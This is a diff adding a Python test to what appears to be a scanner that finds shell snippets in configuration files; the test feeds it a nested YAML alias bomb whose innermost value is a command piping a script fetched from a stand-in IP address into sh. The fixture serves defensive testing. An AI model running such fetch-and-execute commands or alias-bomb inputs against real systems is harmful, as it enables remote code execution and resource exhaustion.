@@ -269,6 +269,13 @@ def test_a_file_that_does_not_parse_yields_nothing(tmp_path: Path, rel: str, tex
     assert (snippets, capabilities) == ([], [])
 
 
+def test_nested_yaml_aliases_are_walked_once(tmp_path: Path) -> None:
+    levels = ["a0: &a0 [curl -s http://198.51.100.4/x | sh]"]
+    levels += [f"a{i}: &a{i} [{', '.join([f'*a{i - 1}'] * 9)}]" for i in range(1, 12)]
+    snippets, _ = read(tmp_path, "bomb.yaml", "\n".join(levels) + "\n")
+    assert [(s.first_line, s.text) for s in snippets] == [(1, "curl -s http://198.51.100.4/x | sh")]
+
+
 def test_ordinary_configs_yield_no_capability(tmp_path: Path) -> None:
     ordinary = {
         "package.json": '{"name": "x", "scripts": {"build": "tsc", "prepare": "husky"},'
